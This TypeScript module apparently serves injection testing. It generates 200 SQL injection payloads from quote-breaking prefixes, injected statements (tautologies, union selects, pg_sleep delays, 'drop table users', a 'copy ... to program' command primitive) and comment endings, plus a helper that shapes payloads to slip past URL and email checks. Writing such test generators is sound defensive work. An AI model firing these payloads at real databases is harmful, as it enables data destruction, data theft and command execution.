/** Characters that end a text in SQL, or seem to. */
const openings = ["'", '"', "')", '")', "\\'", "%'", '$$', "{'", "'&!(:*", "\u02bc'"]
/** The next part of a statement. */
const statements = [
  ' or 1=1',
  " or 'a'='a",
  '; select pg_sleep(2)',
  ' union select null,null,null',
  '; drop table users',
  ' and 1=cast(version() as int)',
  '||(select current_user)||',
  '::int',
  "; copy users to program 'true'",
  ' limit 1 offset 1',
]
/** Characters that make the rest of a statement a comment. */
const endings = ['--', '/*']

/** 200 texts that would change or break a statement into which they were pasted. */
export const sqlPayloads: string[] = openings.flatMap(opening =>
  statements.flatMap(statement => endings.map(ending => opening + statement + ending)),
)

/** Returns the payload as part of a value like the example, so that it also gets past the checks of an address. */
export function shapedLike(example: unknown, payload: string): string {
  const text = String(example)
  if (/^https?:/.test(text)) return `https://example.org/${payload}`
  if (text.includes('@')) return `o'or'${payload.replace(/[^\w'-]/g, '')}@example.org`
  return text + payload
}
